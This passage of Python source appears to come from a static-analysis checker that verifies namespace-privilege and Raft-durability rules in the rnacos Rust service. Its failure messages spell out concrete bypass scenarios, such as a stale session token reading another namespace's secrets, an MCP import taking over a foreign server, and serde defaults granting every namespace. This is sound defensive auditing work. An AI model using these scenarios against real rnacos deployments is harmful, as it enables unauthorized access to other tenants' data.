    ck.floor('R18c', 'namespace service sub-queries', n, 1)


def r18d(ck, fb):
    ck.rule('R18d', 'the privilege travels with the session: every UserSession aggregate takes namespace_privilege from the user record '
                    '(field namespace_privilege of the loaded user), not from a constant')
    n = 0
    for b in fb.bodies.values():
        if '::tests::' in b.name:
            continue
        for (i, j, st) in b.aggregates(r'common::model::UserSession$'):
            if (b.trait or '').endswith('Clone') or (b.trait or '').endswith('Default') or (b.trait or '').startswith('serde') or '_serde' in b.name or 'Deserialize' in b.name:
                continue
            n += 1
            ck.analysed(b)
            rv = st['rv']
            o = rv['ops'][rv['fields'].index('namespace_privilege')]
            f = cfg.origin_fields(b, o)
            t = Taint(b, place_src=field_place_src('namespace_privilege'))
            ck.require(t.op_tainted(o), 'R18d', 'UserSession:%s' % fb.root_of(b.name), b.where(i), 'a session is created with a namespace privilege that does not come from the user record')
    ck.floor('R18d', 'UserSession constructions', n, 2)


def r18e(ck, fb):
    ck.rule('R18e', 'the "unrestricted" fast path agrees with the predicate: PrivilegeGroup::is_all() may be true only for groups for which '
                    'check_permission is true for every key - whitelist_is_all && !blacklist_is_all && (no blacklist or an empty one). Decided as a '
                    'truth table over (enabled, whitelist_is_all, blacklist_is_all, blacklist None|Some, blacklist.is_empty()), helpers '
                    'interpreted. Listing handlers skip their per-item filter when is_all() holds')
    ia = find_generic(fb, 'PrivilegeGroup::<T>::is_all')
    if not ck.require(len(ia) >= 1, 'R18e', 'anchor:is_all', '-', 'PrivilegeGroup::is_all not found'):
        return
    b = ia[0]
    ck.analysed(b)
    from rn.absint import enumerate_tables, Undecided, Unsupported, Panic

    def m_empty(i, fr, t, args):
        return BV.const(1, int(i.env.atom('BL_EMPTY', 'bool')))
    models = dict(CONTAINS_MODEL)
    models['std::collections::HashSet::<T, S, A>::is_empty'] = m_empty
    models['std::collections::HashSet::<T, S>::is_empty'] = m_empty
    try:
        atoms, rows = enumerate_tables(fb, b, lambda: [Ref(obj=SymObj('self'))], call_models=models)
    except (Undecided, Unsupported, Panic) as e:
        ck.bad('R18e', 'is_all:table', b.where(), 'truth table of is_all cannot be computed: %s' % e)
        return
    n = 0
    bad = None
    for (assign, r, calls) in rows:
        n += 1
        got = bool(r.value())
        if not got:
            continue
        w = assign.get('self.whitelist_is_all')
        bl_all = assign.get('self.blacklist_is_all')
        bl = assign.get('self.blacklist')
        empty = assign.get('BL_EMPTY')
        # every atom the verdict needs must have been looked at and have the safe value
        ok = (w is True) and (bl_all is False) and (bl == 'None' or (bl == 'Some' and empty is True))
        if not ok:
            bad = 'is_all() is true for %s: such a group refuses some keys (check_permission false), yet listing handlers that test is_all() ' \
                  'skip their filter and return the refused namespaces' % {k: v for k, v in assign.items()}
            break
    ck.floor('R18e', 'is_all rows', n, 2)
    ck.require(bad is None, 'R18e', 'is_all:implies-every-key-permitted', b.where(), bad or '', '%d rows' % n)
    n2 = fb.bodies.get(PV + 'NamespacePrivilegeGroup::is_all')
    if n2 is not None:
        ck.require(len(n2.calls(r'PrivilegeGroup::<T>::is_all$')) >= 1, 'R18e', 'NamespacePrivilegeGroup::is_all:delegates', n2.where(), 'NamespacePrivilegeGroup::is_all does not delegate')


def r18f(ck, fb):
    ck.rule('R18f', 'every listing producer honours the privilege it is handed: a function that receives a query parameter carrying '
                    'namespace_privilege (ServiceQueryParam / ConfigQueryParam) and builds result rows (Vec::push) either calls '
                    'check_permission itself, or delegates to a function that does (passing the parameter on), or is only called from sites '
                    'guarded by check_permission(namespace) == true. Sibling cross-check: the config and service indexes do, so must every other '
                    'consumer of the parameter')
    PT = re.compile(r'service_index::ServiceQueryParam|config_index::ConfigQueryParam')
    CHK = r'NamespacePrivilegeGroup::check_permission$|NamespacePrivilegeGroup::check_option_value_permission$'
    takers = {}
    for n, b in fb.bodies.items():
        if b.parent or '::tests::' in n or n.startswith('<') or '_serde' in n:
            continue
        if any(PT.search(b.local_ty(i) or '') for i in range(1, b.argc + 1)):
            takers[n] = b
    producers = {n: b for n, b in takers.items() if b.calls(r'Vec::<.*>::push$')}
    ck.floor('R18f', 'listing producers that receive the privilege', len(producers), 4)

    def callers_guarded(name):
        sites = []
        for n, b in fb.bodies.items():
            for x in [b] + (fb.tree(n)[1:] if not b.parent else []):
                for s in x.calls(re.escape(name) + '$'):
                    sites.append((x, s))
        if not sites:
            return False
        return all(any(a[0] == 'call' and re.search(CHK, a[1] or '') and a[2] is True for a in cfg.guard_atoms(x, s.bb)) for (x, s) in sites)
    memo = {}

    def ok(name, depth=0):
        if name in memo:
            return memo[name]
        b = takers.get(name)
        if b is None or depth > 4:
            return False
        memo[name] = False
        r = False
        if any(x.calls(CHK) for x in util.region(fb, b)):
            r = True
        elif callers_guarded(name):
            r = True
        else:
            for s in b.sites:
                tgt = s.resolved or s.callee
                if tgt in takers and tgt != name and ok(tgt, depth + 1):
                    r = True
        memo[name] = r
        return r
    for n, b in sorted(producers.items()):
        ck.analysed(b)
        ck.require(ok(n), 'R18f', 'producer:%s' % n, b.where(),
                   '%s builds a listing from a query that carries the caller\'s namespace privilege but never consults it (and is not called under a '
                   'per-namespace check): with the namespace omitted the handler-level check lets the request through and the listing returns '
                   'rows of every namespace' % n, 'privilege consulted')


def r18g(ck, fb):
    ck.rule('R18g', 'the privilege travels with a query that is forwarded to another node: every struct that carries a namespace_privilege field and '
                    'is serialised for the cluster route (NamingRouteRequest::QueryServiceSubscriberPage(ServiceQueryParam) ...) writes that field - '
                    'the derived Serialize body contains serialize_field("namespace_privilege"). A skipped field is rebuilt with the default on the '
                    'receiving node, and the default privilege permits every namespace')
    n = 0
    for name, b in fb.bodies.items():
        m = re.search(r'_serde::Serialize for (rnacos::[\w:]+)>::serialize$', name)
        if not m:
            continue
        ty = m.group(1)
        adt = fb.adts.get(ty)
        if not adt or adt.get('enum'):
            continue
        fields = [f[0] for f in adt['variants'][0]['fields']]
        if 'namespace_privilege' not in fields:
            continue
        n += 1
        ck.analysed(b)
        strs = set()
        for s0 in b.calls(r'serialize_field$'):
            for a in s0.args:
                d = cfg.strip_calls(b, cfg.describe_operand(b, a))
                if d['k'] == 'const' and 's' in d['c']:
                    strs.add(d['c']['s'])
        ck.require(any('namespace' in x.lower() and 'privilege' in x.lower() for x in strs), 'R18g', 'serialize:%s' % ty, b.where(),
                   '%s is serialisable but its namespace_privilege field is not written (serde skip): forwarded to another node the query is evaluated '
                   'with the default privilege, which permits every namespace' % ty, 'field written')
    ck.floor('R18g', 'serialisable structs that carry namespace_privilege', n, 1)


def r18h(ck, fb):
    from rn.callgraph import CallGraph
    ck.rule('R18h', 'the default namespace is one namespace with two names ("" and "public"): NamespacePrivilegeGroup::check_permission recognises '
                    'both in the requested key; the entries of the stored white / black list must be matched the same way - a predicate over the list '
                    'entries that applies is_default_namespace to them (or lists that are normalised where they are stored). With a plain '
                    'contains("") a blacklist ["public"] sent through the user API blocks nothing and a whitelist ["public"] admits nothing')
    NP = 'rnacos::common::model::privilege::NamespacePrivilegeGroup::'
    b = ck.body(NP + 'check_permission', 'R18h')
    if not b:
        return
    key_sites = b.calls(r'rnacos::namespace::is_default_namespace$')
    if not ck.require(len(key_sites) >= 1, 'R18h', 'anchor:key-normalised', b.where(), 'check_permission no longer recognises the default namespace in the key'):
        return
    # entries: a closure (iter().any(..)) or helper below check_permission that calls is_default_namespace on list elements
    entry = False
    for x in util.region(fb, b, 2):
        if x is b:
            continue
        if x.calls(r'rnacos::namespace::is_default_namespace$'):
            entry = True
    # or normalisation at the place where lists are stored
    norm = False
    for x in fb.bodies.values():
        if '::tests' in x.name or x.name.startswith(NP):
            continue
        if any(f in ('whitelist', 'blacklist') and o.endswith('PrivilegeGroup') for (o, f, bb, st) in x.field_writes()):
            if any(y.calls(r'is_default_namespace$|NamingUtils::default_namespace$') for y in util.region(fb, x, 1)):
                norm = True
    ck.require(entry or norm, 'R18h', 'default-namespace:list-entries-matched-by-either-name', key_sites[0].where(),
               'the key "public" / "" is mapped to "" and looked up with contains(""): admin sets dev1\'s blacklist to ["public"] through v2/user/update, '
               'dev1 still reads config/info of the default namespace (tenant=public and tenant omitted), config/list and service/list',
               'entries matched through is_default_namespace' if entry else 'lists normalised where stored')


def r18i(ck, fb):
    ck.rule('R18i', 'an object found through a global key is changed only inside the namespace that was checked: the MCP server import checks the '
                    'caller\'s privilege for the TARGET namespace and then looks each entry up by its unique_key, which is global. On the branch where a '
                    'server with that key exists, the update request is reached only after a comparison of the existing server\'s namespace - '
                    'otherwise a user whitelisted for ns1 rewrites, and moves, a server of ns2')
    hs = [b for b in fb.bodies.values() if re.search(r'mcp_server_api::update_mcp_server_for_import::\{closure#0\}$', b.name)]
    if not ck.require(len(hs) == 1, 'R18i', 'anchor:update_mcp_server_for_import', '-', 'update_mcp_server_for_import not found'):
        return
    b = hs[0]
    ck.analysed(b)
    lookups = [i for (i, j, st) in b.aggregates(r'McpManagerReq$', 'GetServerByKey')]
    updates = [i for (i, j, st) in b.aggregates(r'McpManagerRaftReq$', 'UpdateServer')]
    if not ck.require(bool(lookups) and bool(updates), 'R18i', 'anchor:lookup-then-update', b.where(), 'the import no longer looks a server up by key and updates it'):
        return
    from rn.facts import pl_fields
    ns = Taint(b, place_src=lambda p: 'namespace' in pl_fields(p) and any(isinstance(e, dict) and e.get('o', '').endswith('McpServer') for e in (p.get('p', []) if isinstance(p, dict) else [])))
    gates = set(i for i, blk in enumerate(b.blocks) if i in cfg.live_blocks(b) and blk['t']['k'] == 'switch' and ns.op_tainted(blk['t']['discr']))
    # a flag computed by the comparison (`let same = a == b || ..; if !same`): constants assigned under a gate, tested later
    flags = set()
    for l, ds in b.defs.items():
        if len(ds) >= 2 and (b.local_ty(l) or '') == 'bool':
            if any(any(e[0] in gates for e in cfg.dominating_edges(b, bb)) for (k, bb, j, n) in ds):
                flags.add(l)
    for i, blk in enumerate(b.blocks):
        if blk['t']['k'] == 'switch' and i in cfg.live_blocks(b):
            d = cfg.describe_operand(b, blk['t']['discr'])
            while d.get('k') == 'un' and d.get('op') == 'Not':
                d = cfg.describe_operand(b, d['a'])
            if d.get('k') == 'multi' and d.get('l') in flags:
                gates.add(i)
    for u in updates:
        ok = bool(gates) and all(u not in cfg.reach_from(b, [l], blocked_blocks=list(gates)) for l in lookups)
        # ... and the comparison decides something: one of its edges (directly, or through the flag it computes) cannot reach the update
        if ok:
            decides = False
            for g in gates:
                tt = b.blocks[g]['t']
                for tb in [x for (_, x) in tt['targets']] + [tt['otherwise']]:
                    if u not in cfg.reach_from(b, [tb]) and tb != u:
                        decides = True
            ok = decides
        ck.require(ok, 'R18i', 'import:update-by-key-stays-in-namespace', b.where(u),
                   'the server found by unique_key is updated whatever namespace it is in: dev1 (whitelist ns1) imports into ns1 a zip naming the key of an '
                   'ns2 server - "1 servers updated", the ns2 server is now namespace=ns1 name=taken-over auth_keys=[dev1-key]',
                   'existing.namespace compared before the update')


def r18j(ck, fb):
    ck.rule('R18j', 'the namespace privilege a request is judged by is the one stored for the user now: the console session is created at login and '
                    'lives for a day; get_user_session (login middleware) must take namespace_privilege from the user manager on every request '
                    '(a UserManagerReq::Query whose answer reaches the session it returns), or user changes must invalidate sessions. Otherwise a '
                    'user the administrator restricts to ns1 keeps reading and writing ns2 with the token he holds (see also R17f for the roles)')
    gs = [b for b in fb.bodies.values() if re.search(r'console::middle::login_middle::get_user_session::\{closure#0\}$', b.name)]
    if not ck.require(len(gs) == 1, 'R18j', 'anchor:get_user_session', '-', 'login_middle::get_user_session not found'):
        return
    b = gs[0]
    ck.analysed(b)
    # refreshers: functions that ask the user manager and write UserSession.namespace_privilege
    refreshers = []
    for x in util.region(fb, b, 2):
        q = x.aggregates(r'rnacos::user::UserManagerReq$', 'Query')
        w = [1 for (o, f, bb, st) in x.field_writes() if f == 'namespace_privilege' and o.endswith('UserSession')]
        if q and w:
            refreshers.append(x.name.replace('::{closure#0}', ''))
    fresh = Taint(b, call_src=lambda t: ((t.get('f') or {}).get('d') or '') in refreshers)
    somes = [(i, st) for (i, j, st) in b.aggregates(r'std::option::Option$', 'Some') if 'UserSession' in (b.local_ty(st['d']) or '' if isinstance(st.get('d'), int) else '')]
    inline = b.name.replace('::{closure#0}', '') in refreshers
    ok = bool(refreshers) and bool(somes) and (inline or all(fresh.op_tainted(st['rv']['ops'][0]) for (i, st) in somes))
    ck.info('R18j', '%d session results in get_user_session, refreshers %s' % (len(somes), [r.split('::')[-1] for r in refreshers]))
    ck.require(ok, 'R18j', 'session:namespace-privilege-from-user-record', b.where(),
               'the session is returned as it was stored at login: dev1 logs in, the admin restricts him to ns1 (the user record refuses ns2), the old '
               'token still reads password=ns2-secret from v2/config/info?tenant=ns2', 'refreshed from the user record')


def r18k(ck, fb, R='R18k'):
    ck.rule(R, 'the lists a user is restricted by are stored as given: wherever the user module builds namespace_white_list / namespace_black_list '
               '(add_user, update_user and their helpers) the value is a plain copy of the request\'s list - an iterator chain of iter / map / '
               'cloned / collect without filter, skip, take, retain, dedup, and without trimming in the mapped closure. The id of the default '
               'namespace is the empty string: "drop blank entries" silently removes it from a blacklist and the user is let into it')
    DROP = re.compile(r'Iterator::(filter|filter_map|skip|skip_while|take|take_while|step_by|flat_map|flatten)$|Vec::<T, A>::(retain|dedup|truncate|drain|dedup_by_key)$')
    TRIM = re.compile(r'str>::trim|<impl str>::trim|::trim$|::trim_(start|end|matches)$')
    n = 0
    for b in fb.bodies.values():
        if not (b.name.startswith('rnacos::user::') or b.name.startswith('<rnacos::user::')) or '::tests::' in b.name or 'serde' in b.name or '::_::' in b.name:
            continue
        ops = []
        for (o, f, bb, st) in b.field_writes():
            if f in ('namespace_white_list', 'namespace_black_list'):
                from rn.facts import rv_operands
                for x in rv_operands(st['rv']):
                    ops.append((f, bb, x))
        for (i, j, st) in b.aggregates(r'user::model::UserDo$'):
            rv = st['rv']
            for f, x in zip(rv['fields'], rv['ops']):
                if f in ('namespace_white_list', 'namespace_black_list'):
                    ops.append((f, i, x))
        for (f, bb, x) in ops:
            chain = util.value_chain(fb, b, x)
            names = [cfg.callee_name(t) or '' for (_b, t) in chain]
            if not any(nm.endswith('::collect') or 'FromIterator' in nm for nm in names):
                continue    # Default::default(), clone of the stored value ...
            n += 1
            ck.analysed(b)
            drops = [nm for nm in names if DROP.search(nm)]
            trims = []
            for (cb, t) in chain:
                if (cfg.callee_name(t) or '').endswith('Iterator::map'):
                    for c in util.closures_passed(fb, cb, t):
                        trims += [s.callee for s in c.sites if s.callee and TRIM.search(s.callee)]
            ck.require(not drops and not trims, R, '%s:%s:stored-as-given' % (fb.root_of(b.name).split('::')[-1], f), b.where(bb),
                       '%s builds %s through %s: entries of the list the administrator gave can be dropped or altered before they are stored - the '
                       'default namespace (id "") vanishes from a blacklist, and the user may read and change it'
                       % (fb.root_of(b.name), f, sorted(set(x.split('::')[-1] for x in drops + trims))), 'iter/map/collect only')
    ck.floor(R, 'privilege lists built in the user module', n, 4)


def r18l(ck, fb, R='R18l'):
    ck.rule(R, 'the namespace that is checked is the namespace that is used: in every console handler that tests the privilege, each request input '
               'that names a namespace (a tenant / namespace field of a parameter, form or query struct) and reaches a data sink of the handler is also an '
               'input of the checked value - backward slice of the sink operands and of the check operand to the handler\'s inputs, every definition '
               'followed. A handler that checks the header tenant and then lets a form field replace it writes into a namespace nobody checked')
    from rn.flow import roots
    try:
        rows = routes.routes_of(fb, fb.get('rnacos::web_config::console_config'))
    except Exception as e:
        ck.bad(R, 'route-dsl', '-', 'console route table cannot be extracted: %s' % e)
        return
    cg = c17.plain_cg(fb)
    NS = re.compile(r'tenant|namespace', re.I)

    def nsish(leaf):
        return leaf[0] == 'arg' and any(NS.search(str(f)) for f in leaf[2])

    def norm(leaf):
        # newtype / tuple positions (web::Json<T>.0, Text<T>.0) are not part of the name of an input; the first element is the upvar of the handler
        if leaf[0] != 'arg':
            return leaf
        fs = leaf[2]
        return ('arg', leaf[1], tuple(fs[:1]) + tuple(f for f in fs[1:] if not str(f).isdigit()))
    n = 0
    for h in sorted(set(r.handler for r in rows if '/api/' in r.path)):
        if h not in fb.bodies:
            continue
        m = fb.main(h)
        checks = m.calls(CHECK_RX)
        if not checks:
            continue
        sinks = sink_sites(fb, m, cg)
        if not sinks:
            continue
        n += 1
        ck.analysed(m)
        C = set()
        for s0 in checks:
            if len(s0.args) > 1:
                C |= {norm(x) for x in roots(m, s0.args[1])}
        extra = {}
        for (s0, what) in sinks:
            for a in s0.args:
                for leaf in {norm(x) for x in roots(m, a)}:
                    if nsish(leaf) and leaf not in C:
                        extra.setdefault(leaf, (s0, what))
        if extra:
            leaf, (s0, what) = sorted(extra.items(), key=str)[0]
            ck.bad(R, '%s:checked-is-used' % h, s0.where(),
                   'handler %s checks the privilege on a value built from %s, but %s also receives the request input %s, which the check never saw: a '
                   'restricted user names an allowed namespace where it is checked and another one where it is used'
                   % (h, sorted(str(c[2]) for c in C if c[0] == 'arg'), what, '.'.join(str(x) for x in leaf[2])))
        else:
            ck.ok(R, '%s:checked-is-used' % h, m.where(), 'every namespace input that reaches a sink was checked')
    ck.floor(R, 'console handlers with a privilege check and a data sink', n, 20)


def _may_be_none(fb, b, op, depth=0):
    """can this Option operand be a literal None (directly, through a multi-definition local, or as the answer of a same-crate helper)?"""
    if depth > 5:
        return False
    d = cfg.describe_operand(b, op)
    if d['k'] == 'agg':
        return d['rv'].get('variant') == 'None'
    if d['k'] == 'multi':
        for (kind, bb, j, node) in d['defs']:
            if kind == 'stmt' and node['rv']['k'] == 'agg' and node['rv'].get('variant') == 'None':
                return True
            if kind == 'stmt' and node['rv']['k'] == 'use' and _may_be_none(fb, b, node['rv']['op'], depth + 1):
                return True
            if kind == 'call' and _call_may_none(fb, node, depth):
                return True
        return False
    if d['k'] == 'call':
        return _call_may_none(fb, d['term'], depth)
    return False


def _call_may_none(fb, term, depth):
    hb = fb.bodies.get(cfg.callee_name(term) or '')
    if hb is None or not hb.name.startswith('rnacos::'):
        return False
    for (kind, bb, j, node) in hb.defs.get(0, []):
        if kind == 'stmt' and node['rv']['k'] == 'agg' and node['rv'].get('variant') == 'None':
            return True
        if kind == 'stmt' and node['rv']['k'] == 'use' and _may_be_none(fb, hb, node['rv']['op'], depth + 1):
            return True
        if kind == 'call' and _call_may_none(fb, node, depth + 1):
            return True
    return False


def r18m(ck, fb, R='R18m'):
    ck.rule(R, 'the decoder of the stored user record hands both namespace lists on, whatever the flags say: UserManager::update_user decodes the '
               'record with UserDo::build_namespace_privilege, patches what the request names and writes the lists back, so a list the decoder leaves '
               'out ("its is-all flag is set, nobody reads it") is erased from the store by the next partial update - the flag is cleared later and the '
               'explicit blacklist is gone. For an enabled privilege both list arguments of PrivilegeGroup::new are Some(..) on every path and derive '
               'from namespace_white_list / namespace_black_list')
    b = ck.body('rnacos::user::model::UserDo::build_namespace_privilege', R)
    if not b:
        return
    news = [x for x in util.region(fb, b, 2) for x in [x] if x.calls(r'privilege::PrivilegeGroup::<.*>::new$|privilege::PrivilegeGroup::new$')]
    sites = [(x, s0) for x in news for s0 in x.calls(r'privilege::PrivilegeGroup::<.*>::new$|privilege::PrivilegeGroup::new$')]
    ck.floor(R, 'PrivilegeGroup::new sites of the record decoder', len(sites), 1)
    for (x, s0) in sites:
        for (k, fld) in ((1, 'namespace_white_list'), (2, 'namespace_black_list')):
            t = Taint(x, place_src=field_place_src(fld), mut_args=True)
            some = not _may_be_none(fb, x, s0.args[k])
            ck.require(some and t.op_tainted(s0.args[k]), R, 'build_namespace_privilege:%s-always-decoded' % fld, s0.where(),
                       'the decoded privilege of a stored user %s: update_user writes the decoded lists back, so a partial update erases the stored %s '
                       '(whitelistIsAll, blacklist [ns-secret]; set blacklistIsAll, then clear it without resending the list: the user is let into ns-secret)'
                       % ('can carry None for %s' % fld if not some else 'does not take its list from %s' % fld, fld), 'Some(list) from %s' % fld)


def r18n(ck, fb, R='R18n'):
    ck.rule(R, 'a restriction survives the wire: PrivilegeGroup travels as JSON (the subscriber query forwarded to another node, a session stored in '
               'the cache table) and its Default is PrivilegeGroup::all() - permit everything. So its derived Serialize writes every field '
               'unconditionally (as many serialize_field calls as the struct has fields, no skip_field) and its derived Deserialize takes nothing '
               'from Default (the map visitor reports a missing key through missing_field and never calls <PrivilegeGroup as Default>::default). '
               'With "compact JSON" (skip false flags, container default) a whitelist-restricted group reads back with whitelist_is_all = true')
    PG = 'rnacos::common::model::privilege::PrivilegeGroup<T>'
    adt = fb.adts.get('rnacos::common::model::privilege::PrivilegeGroup')
    nf = len(adt['variants'][0]['fields']) if adt and adt.get('variants') else 0
    ck.floor(R, 'fields of PrivilegeGroup', nf, 5)
    ser = [b for n, b in fb.bodies.items() if n.endswith('_serde::Serialize for %s>::serialize' % PG) and not b.parent]
    ck.floor(R, 'derived Serialize body of PrivilegeGroup', len(ser), 1)
    for b in ser:
        ck.analysed(b)
        w = len(b.calls(r'serialize_field$'))
        sk = len(b.calls(r'skip_field$'))
        ck.require(w == nf and sk == 0, R, 'PrivilegeGroup:serialize-every-field', b.where(),
                   'the serialised PrivilegeGroup leaves fields out (%d of %d written, %d conditional skips): the reader fills them from a default - '
                   'the flags of a restriction are false, and an omitted false reads back as whatever the default says' % (w, nf, sk), '%d fields written' % w)
    de = [b for n, b in fb.bodies.items() if ('_serde::Deserialize<\'de> for %s>::deserialize' % PG) in n]
    ck.floor(R, 'derived Deserialize bodies of PrivilegeGroup', len(de), 3)
    miss = sum(len(b.calls(r'missing_field$')) for b in de)
    dflt = [s0 for b in de for s0 in b.sites if re.search(r'Default>::default$|PrivilegeGroup::<.*>::all$|PrivilegeGroup<T>>::default', s0.resolved or s0.callee or '')]
    ck.require(miss >= 1 and not dflt, R, 'PrivilegeGroup:deserialize-invents-nothing', de[0].where() if de else '-',
               'a PrivilegeGroup read from JSON takes missing keys from a default (%d missing_field reports, %d default calls): Default for PrivilegeGroup '
               'is all() - a user whose whitelist is [dev] is allowed namespace prod once the group has crossed the wire' % (miss, len(dflt)),
               'missing keys are errors / None')
