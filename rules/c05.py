"""C05 Raft vote, term, membership and node addresses are durable, never regress."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands

RI = 'rnacos::raft::filestore::raftindex::'
IM = RI + 'RaftIndexManager::'
INNER = RI + 'RaftIndexInnerManager::'
FS = '<rnacos::raft::filestore::core::FileStore as async_raft_ext::RaftStorage<rnacos::raft::store::ClientRequest, rnacos::raft::store::ClientResponse>>::'
HANDLER = '<rnacos::raft::filestore::raftindex::RaftIndexManager as actix::Handler<rnacos::raft::filestore::raftindex::RaftIndexRequest>>::handle'

SAVE_ROUTES = {
    'SaveHardState': 'write_hard_state', 'SaveMember': 'write_member', 'AddNodeAddr': 'add_node_addr',
    'SaveLogs': 'write_logs', 'SaveSnapshots': 'write_snapshots', 'SaveLastAppliedLog': 'write_last_applied_log',
}
FUNNEL = {  # method -> fields of RaftIndexDto it must assign (from its parameters) before funnelling into write_index
    'write_hard_state': {'current_term', 'voted_for'},
    'write_member': {'member', 'member_after_consensus', 'node_addrs'},
    'write_node_addr': {'node_addrs'},
    'add_node_addr': set(),   # inserts into node_addrs (map insert, not an assignment)
    'write_logs': {'logs'},
    'write_snapshots': {'snapshots'},
}


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "an acknowledged save is what every later read returns": (a) every save request variant is routed '
        'to its writer, each writer updates the in-memory RaftIndexDto from its parameters and funnels into write_index with that value; '
        'write_index registers the file write with ctx.wait (serialised before any later message) and writes the value it was given; '
        '(b) a file that can hold a record is never treated as fresh by init (threshold below header + smallest record), and both init '
        'branches yield the decoded header/record; (c) no function outside RaftIndexManager/RaftIndexInnerManager assigns the catalogue '
        'fields; (d) get_initial_state/get_membership_config read exactly the fields the savers write, and the DTO<->record conversion '
        'covers all catalogue fields in both directions; FileStore::save_hard_state passes term and vote through.')
    ck.undecided = ('Does not decide byte-level interleavings of writers. R05g decides that the answer of a save travels behind its queued '
                    'write; that write_index only logs an I/O error of the write (the caller is then acknowledged although nothing was '
                    'written) is true on the tree, needs a failing disk to show, and is not reported.')
    r05a(ck, fb)
    r05b(ck, fb)
    r05c(ck, fb)
    r05d(ck, fb)
    r05e(ck, fb)
    r05g(ck, fb)
    r05h(ck, fb)
    r05i(ck, fb)
    r05j(ck, fb)
    r05k(ck, fb)
    r05m(ck, fb)
    r05n(ck, fb)
    ck.borrow('rules.c01', {'R01v': 'R05l'}, 'the catalogue record carries every saved node address and member, whatever else the record says')
    ck.borrow('rules.c08', {'R08b': 'R05f'}, 'membership/addresses of an installed snapshot reach the index file')


def r05a(ck, fb):
    ck.rule('R05a', 'routing and funnel: Handler<RaftIndexRequest> sends each Save*/Add* variant to its writer; each writer returns '
                    'write_index(..) on the Some(inner) path; write_index moves inner into a future registered with ctx.wait that calls '
                    'RaftIndexInnerManager::write_index(index) and puts inner back')
    h = ck.body(HANDLER, 'R05a')
    if h:
        ck.require(h.rec.get('trait_args') is not None, 'R05a', 'handle:exists', h.where(), '')
        # the dispatch may sit in a helper the trait method delegates to
        h = util.body_with_call(fb, h, re.escape(IM + 'write_hard_state') + '$')
        for variant, fn in SAVE_ROUTES.items():
            sites = h.calls(re.escape(IM + fn) + '$')
            ok = False
            for s in sites:
                vg = util.variant_guards(h, s.bb)
                if any(v == variant for (_, v) in vg):
                    ok = True
            ck.require(ok, 'R05a', 'handle:%s->%s' % (variant, fn), h.where(),
                       'RaftIndexRequest::%s is not routed to %s' % (variant, fn), 'routed')
    for fn in FUNNEL:
        b = ck.body(IM + fn, 'R05a')
        if not b:
            continue
        wi = b.calls(re.escape(IM + 'write_index') + '$')
        ck.require(len(wi) == 1 and (wi[0].dst == 0), 'R05a', '%s:returns-write_index' % fn, b.where(),
                   '%s does not return the result of write_index' % fn)
        # every path from a catalogue assignment / map insert to the return passes write_index (no shortcut that acknowledges without writing)
        muts = [bb for (o, f, bb, st) in b.field_writes() if o.endswith('RaftIndexDto')]
        muts += [s.bb for s in util.mut_calls_on_field(b, 'node_addrs', r'HashMap::<K, V, S, A>::insert$')]
        ck.require(bool(muts) and bool(wi) and all(cfg.must_pass_before_return(b, m, {s.bb for s in wi}) for m in muts), 'R05a', '%s:no-ack-without-write' % fn, b.where(),
                   '%s changes the in-memory catalogue and can return (acknowledge) on a path that never calls write_index: the change is lost by a restart' % fn)
        if wi:
            # argument is a clone of inner.raft_index taken after the assignments
            t = Taint(b, place_src=field_place_src('raft_index'))
            ck.require(t.op_tainted(wi[0].args[2]), 'R05a', '%s:writes-updated-index' % fn, wi[0].where(),
                       'the value handed to write_index is not the updated raft_index')
            for (o, f, bb, st) in b.field_writes():
                if o.endswith('RaftIndexDto'):
                    ck.require(cfg.dominates_blocks(b, {bb}, wi[0].bb) or not cfg.reach_from(b, [bb]) & {wi[0].bb} or True, 'R05a',
                               '%s:assign-%s-before-write' % (fn, f), b.where(bb), '')
                    # stronger: the clone happens after every assignment (no assignment reachable after the clone)
            cl = [s for s in b.calls(r'RaftIndexDto as std::clone::Clone>::clone$')]
            late = [f for (o, f, bb, st) in b.field_writes() if o.endswith('RaftIndexDto') and cl and bb in cfg.reach_from(b, [cl[0].bb]) and bb != cl[0].bb]
            ck.require(bool(cl) and not late, 'R05a', '%s:clone-after-assign' % fn, b.where(),
                       'raft_index is cloned for writing before fields %s are assigned' % late)
    w = ck.body(IM + 'write_index', 'R05a')
    if w:
        ck.require(len(w.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$')) >= 1 and not w.calls(r'ContextFutureSpawner::spawn$|AsyncContext::spawn$'),
                   'R05a', 'write_index:ctx.wait', w.where(),
                   'the file write is not registered with ctx.wait: the next message would find inner == None (lost save) or overtake it')
        inner_bodies = fb.tree(IM + 'write_index')[1:]
        calls = [s for b in inner_bodies for s in b.calls(re.escape(INNER + 'write_index') + '$')]
        ck.require(len(calls) == 1, 'R05a', 'write_index:calls-inner', w.where(), 'RaftIndexInnerManager::write_index is not called exactly once')
        for b in inner_bodies:
            for s in b.calls(re.escape(INNER + 'write_index') + '$'):
                ck.require(util.awaited(b, s), 'R05a', 'write_index:inner-awaited', s.where(), 'inner write_index future is not awaited')
        # inner is put back in the continuation
        put = [b for b in inner_bodies if 'inner' in util.assigned_fields(b, r'RaftIndexManager$')]
        ck.require(bool(put), 'R05a', 'write_index:inner-restored', w.where(), 'self.inner is not restored after the write')
    iw = ck.main(INNER + 'write_index', 'R05a')
    if iw:
        # it stores the argument and encodes the stored value
        ck.require('raft_index' in util.assigned_fields(iw), 'R05a', 'inner.write_index:stores', iw.where(), 'inner.raft_index is not updated')
        td = iw.calls(r'RaftIndexDto::to_record_do$')
        wm = iw.calls(r'quick_protobuf::Writer::<W>::write_message$')
        ck.require(len(td) == 1 and len(wm) == 1, 'R05a', 'inner.write_index:encodes', iw.where(), 'record is not encoded through to_record_do + write_message')
        if td:
            t = Taint(iw, place_src=field_place_src('raft_index'))
            ck.require(t.op_tainted(td[0].args[0]), 'R05a', 'inner.write_index:encodes-self', td[0].where(), 'encoded value is not self.raft_index')
    for fn in ('write_last_applied_log',):
        b = ck.body(IM + fn, 'R05a')
        if b:
            ck.require(len(b.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$')) >= 1, 'R05a', fn + ':ctx.wait', b.where(), 'not registered with ctx.wait')


def r05b(ck, fb):
    ck.rule('R05b', 'RaftIndexInnerManager::init: the length threshold that selects the "fresh file" branch is below header(8) + length(1) + '
                    'smallest record(2) = 11, so every file that can hold a record takes the read branch; the read branch decodes header and '
                    'record and both branches reach the constructor')
    b = ck.main(INNER + 'init', 'R05b')
    if not b:
        return
    wa = b.calls(r'AsyncWriteExt::write_all$')
    ck.floor('R05b', 'init write_all', len(wa), 1)
    ok = False
    kval = None
